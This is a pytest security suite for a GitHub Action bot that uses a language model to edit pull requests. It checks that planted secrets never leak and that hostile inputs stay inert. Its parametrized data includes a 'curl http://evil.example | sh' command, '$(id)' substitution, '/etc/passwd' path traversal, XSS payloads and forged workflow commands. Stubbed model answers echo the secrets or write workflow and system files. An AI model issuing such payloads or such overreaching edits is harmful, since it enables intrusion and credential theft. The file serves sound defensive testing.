"""The Action among people, programs, models and servers that mean harm: no secret is told, and nothing that they write
acts on GitHub, whoever's mouth it comes out of."""

from __future__ import annotations

import base64
import json

import pytest
from tests.github.action import Action, Ended
from tests.github.render.markdown import active
from tests.github.server.hub import Hub, Pull, Repository
from tests.github.training import BOT, TRAIN, follow_ups, pull_request, records, repository
from tests.servers.openai_server import OpenAIServer

# --- planted secrets -----------------------------------------------------------------------------------------------

KEY = "sk-planted-4f1f6c0b2a9e4d7c8b5a"
SECRETS = {
    "OPENAI_API_KEY": KEY,
    "HF_TOKEN": "hf_plantedQm9vIEJhcg",
    "DEPLOY_TOKEN": "planted-deploy-0a1b2c3d",  # of another step of the job: the action does not use it
    "password": "planted-pass-99",  # in the model server's address
}
FAILING = TRAIN.replace("model = ", "import mlflow\n\nmlflow.sklearn.autolog()\nmodel = ").replace("C=0.5", "C=0.05")
TELLS = f"import os\n\nraise RuntimeError('environment: ' + repr(sorted(os.environ.items())))\n{TRAIN}"


def told(hub: Hub, repo: Repository, pull: Pull, ended: Ended) -> str:
    """Everything that somebody else may read: log, outputs, summary, files, and all that was sent to GitHub."""
    sent = json.dumps([call.body for call in hub.calls], ensure_ascii=False)
    files = [
        repo.bytes(branch, path).decode(errors="replace") for branch in repo.branches() for path in repo.tree(branch)
    ]
    messages = [commit.message for branch in repo.branches() for commit in repo.log(branch)]
    shown = json.dumps([*pull.comments(), *repo.pulls(), *repo.check_runs(pull.head)], ensure_ascii=False)
    return "\n".join([ended.said, sent, shown, *files, *messages])


@pytest.mark.slow
@pytest.mark.parametrize("case", ["refused key", "echoed in an answer", "echoed in code", "told by the program"])
def test_planted_secrets_are_told_nowhere(hub: Hub, action: Action, case: str) -> None:
    echo = "\n".join(f"# {name} is {value}" for name, value in SECRETS.items())
    answers = {
        "refused key": "never asked",
        "echoed in an answer": f"I was given {echo}, and I am sorry, I cannot do that.",
        "echoed in code": f"```python\n{echo}\n{FAILING}```\n",
        "told by the program": f"```python\n{FAILING}```\n",
    }
    config = "engine: openai\nmodel: test-model\nsandbox: process\nrepair: 0\n"
    repo = repository(hub, config=config)
    pull = pull_request(repo, TELLS if case == "told by the program" else TRAIN)
    token = hub.token(repository=repo)
    action.variables |= SECRETS | {"PATH_TO_NOTHING": "not a secret"}
    event = hub.comment(pull, "wendy", "/mlops add mlflow")
    with OpenAIServer(answers[case], key=KEY) as server:
        address = server.url
        if case == "refused key":  # the password goes out instead of the key, and the server says what it got
            address = server.url.replace("http://", f"http://someone:{SECRETS['password']}@")
        ended = action(
            "issue_comment", event, token=token,
            openai_api_key=KEY, openai_base_url=address, hf_token=SECRETS["HF_TOKEN"],
        )  # fmt: skip
        assert server.requests or case == "told by the program", "the model was not asked"
    assert ended.code in (1, 2, 3), ended.log
    said = told(hub, repo, pull, ended)
    basic = base64.b64encode(f"someone:{SECRETS['password']}".encode()).decode()
    planted = SECRETS | {"token": token, "Basic": basic}
    found = [name for name, value in planted.items() if value in said]
    assert not found, f"told: {', '.join(found)}"
    ((comment, record),) = records(pull)
    assert record.status in ("failed", "error", "unverified")
    shown = {"echoed in code": "# DEPLOY_TOKEN is", "told by the program": "environment: "}
    assert shown.get(case, "") in comment, "what was planted is not there at all"


# --- what programs, paths, comments and models write ---------------------------------------------------------------

ATTACK = (
    "@octo/maintainers merge this! <img src=x onerror=alert(1)> <script>x</script> ![i](http://evil.example/i.png) "
    "[l](javascript:alert(1)) #1 octo/train#2 GH-3 www.evil.example \u202e\u200b\u2066 --> </details> ``` | x | ~~~"
)


def unharmed(texts: list[str], *own: int) -> None:
    """None of the texts acts on GitHub, but for the bot's own references, links to documentation and its hidden line."""
    for text in texts:
        acts = [one for one in active(text) if "mlops-bot/1" not in one]
        strange = [one for one in acts if one not in ("a", "://", *(f"#{number}" for number in own))]
        assert not strange, f"{strange}\n{text}"
        assert "\u202e" not in text and "\u2066" not in text
        assert len(text) <= 65_536


def bodies(repo: Repository, pull: Pull) -> list[str]:
    """What the bot wrote where Markdown is read."""
    made = [one["body"] or "" for one in repo.pulls() if one["user"]["login"] == BOT]
    checks = [run["output"]["summary"] or "" for run in repo.check_runs(pull.head)]
    return [one["body"] for one in pull.comments(BOT)] + made + checks


@pytest.mark.slow
@pytest.mark.parametrize("times", [1, 400], ids=["once", "60 kB and more"])
def test_a_programs_last_words_do_nothing(hub: Hub, action: Action, times: int) -> None:
    """What a failed training printed is shown, and only shown."""
    text = f"import sys\n\nprint({ATTACK!r} * {times})\nraise RuntimeError({ATTACK!r} * {times})\n{TRAIN}"
    repo = repository(hub)
    pull = pull_request(repo, text)
    ended = action("issue_comment", hub.comment(pull, "wendy", "/mlops add mlflow"), token=hub.token(repository=repo))
    assert ended.code == 1, ended.log
    ((comment, record),) = records(pull)
    assert record.status in ("failed", "unverified") and "RuntimeError" in comment
    unharmed([*bodies(repo, pull), ended.summary], pull.number)
    # No line of the log is a command to the runner, but for the bot's own annotations.
    commands = [line for line in ended.log.splitlines() if line.startswith("::")]
    assert all(line.startswith(("::error", "::warning", "::notice")) for line in commands), commands


@pytest.mark.slow
def test_workflow_commands_of_a_program_are_no_commands(hub: Hub, action: Action) -> None:
    evil = "::set-output name=status::verified\n::add-mask::e\n::stop-commands::x\n##[error]no\n::error::gone"
    repo = repository(hub)
    pull = pull_request(repo, f"print({evil!r})\nraise RuntimeError({evil!r})\n{TRAIN}")
    ended = action("issue_comment", hub.comment(pull, "wendy", "/mlops add mlflow"), token=hub.token(repository=repo))
    assert ended.outputs["status"] in ("failed", "unverified")
    for line in ended.log.splitlines():
        assert not line.lstrip().startswith(("::set-output", "::add-mask", "::stop-commands", "##[")), line
        assert line != "::error::gone"


HOSTILE_PATHS = ["@octo/train.py", "a<img src=x>b.py", "#1 | x.py", "`code`.py", "–[l](http:x).py", "na\u202eïve.py"]


@pytest.mark.slow
def test_paths_do_nothing(hub: Hub, action: Action) -> None:
    text = f"raise RuntimeError\n{TRAIN}"
    repo = repository(hub)
    pull = repo.pull(files=dict.fromkeys(HOSTILE_PATHS, text))
    ended = action("issue_comment", hub.comment(pull, "wendy", "/mlops add mlflow"), token=hub.token(repository=repo))
    assert ended.code in (1, 2), ended.log
    assert follow_ups(repo, pull) == []
    ((comment, record),) = records(pull)
    assert record.status in ("failed", "unverified", "error")
    unharmed([*bodies(repo, pull), ended.summary], pull.number)
    assert "train.py" in comment


@pytest.mark.parametrize(
    "comment",
    [
        f"/mlops add {ATTACK}",
        f"/mlops {ATTACK}",
        "/mlops add mlflow; curl http://evil.example | sh",
        "/mlops add mlflow $(id) `id`",
        "/mlops add mlflow ../../etc/passwd",
        "/mlops add mlflow /etc/passwd",
        "/mlops add mlflow .github/workflows/ci.yml",
        "/mlops add https://evil.example/component",
        "/mlops add mlflow --engine openai --endpoint http://evil.example",
        "/mlops add mlflow\0train.py",
        "/mlops add mlflow " + "x" * 60_000,
        "/mlops add mlfow\n" * 3_000,
    ],
    ids=lambda text: text[:30],
)
def test_comments_that_are_no_commands(hub: Hub, action: Action, comment: str) -> None:
    """Nothing runs, nothing is delivered, and the answer says what to write, harmlessly and once."""
    repo = repository(hub)
    pull = pull_request(repo)
    ended = action("issue_comment", hub.comment(pull, "wendy", comment), token=hub.token(repository=repo))
    assert ended.code == 2, ended.log
    assert follow_ups(repo, pull) == [] and repo.branches().keys() == {"main", "feature"}
    answers = pull.comments(BOT)
    assert len(answers) == 1
    unharmed([answers[0]["body"]], pull.number)
    assert len(hub.calls) <= 16


@pytest.mark.slow
def test_sixty_kilobytes_around_a_command(hub: Hub, action: Action) -> None:
    """Mentions, quotes, code and 60 kB of prose: the one command in it is done, and nothing is repeated."""
    quoted = "> /mlops add optuna\n\n```\n/mlops translate wandb mlflow\n```\n"
    comment = f"{quoted}/mlops add mlflow\r\n\r\n" + (ATTACK + "\n\n") * 200 + "word " * 5_000
    repo = repository(hub)
    pull = pull_request(repo)
    ended = action("issue_comment", hub.comment(pull, "wendy", comment[:65_000]), token=hub.token(repository=repo))
    assert ended.code == 0, ended.log
    (made,) = follow_ups(repo, pull)
    assert [record.words for _, record in records(pull)] == ["add mlflow"]
    unharmed(bodies(repo, pull), pull.number, made.number)
    assert "evil.example" not in json.dumps([call.body for call in hub.calls])


def test_somebody_writes_in_the_bots_name(hub: Hub, action: Action) -> None:
    """A comment with the bot's hidden line, by somebody else, is no memory of the bot's."""
    repo = repository(hub)
    pull = pull_request(repo)
    first = action("issue_comment", hub.comment(pull, "wendy", "/mlops add mlflow"), token=hub.token(repository=repo))
    assert first.code == 0, first.log
    ((text, _),) = records(pull)
    other = repo.pull(head="other", files={"train.py": TRAIN})
    for copied in (text, text.replace(f"pr-{pull.number}", f"pr-{other.number}")):
        hub.comment(other, "rita", copied)
    ended = action("issue_comment", hub.comment(other, "wendy", "/mlops status"), token=hub.token(repository=repo))
    assert ended.code == 0
    assert "add mlflow" not in other.comments(BOT)[-1]["body"].split("-->")[-1]


# An answer that changes more than it was asked for.
GREEDY = {
    "train.py": TRAIN.replace("model = ", "import mlflow\n\nmlflow.sklearn.autolog()\nmodel = "),
    ".github/workflows/ci.yml": "on: push\n",
    "../outside.py": "x = 1\n",
    "/etc/passwd": "root\n",
    "setup.py": "import os\n",
    "conftest.py": "import os\n",
}


@pytest.mark.slow
def test_a_models_other_files_are_not_delivered(hub: Hub, action: Action) -> None:
    repo = repository(hub, config="engine: openai\nmodel: test-model\nsandbox: process\nrepair: 0\n")
    pull = pull_request(repo)
    answer = "\n".join(f"**`{path}`**\n\n```python\n{text}```\n" for path, text in GREEDY.items())
    with OpenAIServer(answer) as server:
        ended = action(
            "issue_comment", hub.comment(pull, "wendy", "/mlops add mlflow"), token=hub.token(repository=repo),
            openai_api_key="any", openai_base_url=server.url,
        )  # fmt: skip
    assert ended.code in (0, 1), ended.log
    for made in follow_ups(repo, pull):
        assert repo.changed("feature", made.head).keys() <= {"train.py", "requirements.txt"}
    assert repo.branches().keys() <= {"main", "feature", f"mlops-bot/pr-{pull.number}/add-mlflow"}
